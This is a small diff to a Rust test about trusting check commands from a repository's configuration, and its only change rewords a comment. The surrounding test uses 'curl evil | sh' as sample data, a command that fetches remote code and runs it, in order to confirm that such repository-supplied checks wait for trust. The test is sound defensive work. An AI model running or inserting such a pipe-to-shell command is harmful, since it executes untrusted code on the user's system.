@@ -194,7 +194,7 @@ fn checks_of_a_repository_wait_for_trust() {
     assert_eq!(trusted.checks().unwrap(), ["curl evil | sh"]);
     let replaced = place.load(&[], &Flags { checks: vec!["true".into()], ..Flags::default() }).unwrap();
     assert_eq!(replaced.checks().unwrap(), ["true"]);
-    // a repository does not switch the person's checks off either
+    // a repository does not switch the user's checks off either
     let emptied = Place::new("check.commands = [\"mine\"]\n", "check.commands = []\n").load(&[], &Flags::default());
     assert!(matches!(emptied.unwrap().checks(), Err(Error::Untrusted { .. })));
 }
